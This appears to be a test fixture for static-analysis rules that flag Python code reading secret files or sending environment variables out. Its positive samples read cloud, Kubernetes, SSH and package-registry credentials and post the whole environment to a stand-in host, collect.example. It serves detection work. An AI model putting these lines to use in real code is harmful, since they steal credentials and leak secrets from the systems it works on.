# ruff: noqa
# fmt: off
import json
import os
import pathlib
import socket

import requests


def steal():
    # ruleid: py-secret-path
    token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
    # ruleid: py-secret-path
    aws = pathlib.Path(os.path.expanduser("~/.aws/credentials")).read_text()
    # ruleid: py-secret-path
    key = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")
    # ruleid: py-secret-path
    env1 = open("/proc/1/environ", "rb").read()
    # ruleid: py-secret-path
    npmrc = open(os.path.join(os.environ["HOME"], ".npmrc")).read()
    # ruleid: py-secret-path
    pypirc = open(os.path.expanduser("~/.pypirc")).read()
    return token, aws, key, env1, npmrc, pypirc


def exfil():
    # ruleid: py-env-exfiltration
    requests.post("https://collect.example/x", json=dict(os.environ))
    data = json.dumps({k: v for k, v in os.environ.items()}).encode()
    s = socket.socket()
    # ruleid: py-env-exfiltration
    s.sendall(data)


def dump():
    # ruleid: py-env-dump
    return json.dumps(dict(os.environ))


def dump2():
    out = []
    # ruleid: py-env-dump
    for k, v in os.environ.items():
        out.append(f"{k}={v}")
    return out


def benign(event):
    # ok: py-secret-path, py-env-exfiltration
    api_key = os.environ["API_KEY"]
    # ok: py-env-exfiltration, py-env-dump
    region = os.environ.get("AWS_REGION", "eu-west-1")
    env = {**os.environ, "LC_ALL": "C"}
    # ok: py-env-exfiltration
    r = requests.post("https://api.example.com/v1/items", headers={"Authorization": f"Bearer {api_key}"}, json=event)
    # ok: py-secret-path
    config = json.load(open("config/credentials.example.txt"))
    return r.json(), region, env, config


class ShipWithContext:
    def filter(self, record):
        # ruleid: py-env-dump
        record.env = dict(os.environ)
        return True


def build_child_env():
    # ok: py-env-dump
    env = dict(os.environ)
    env["LC_ALL"] = "C"
    return env
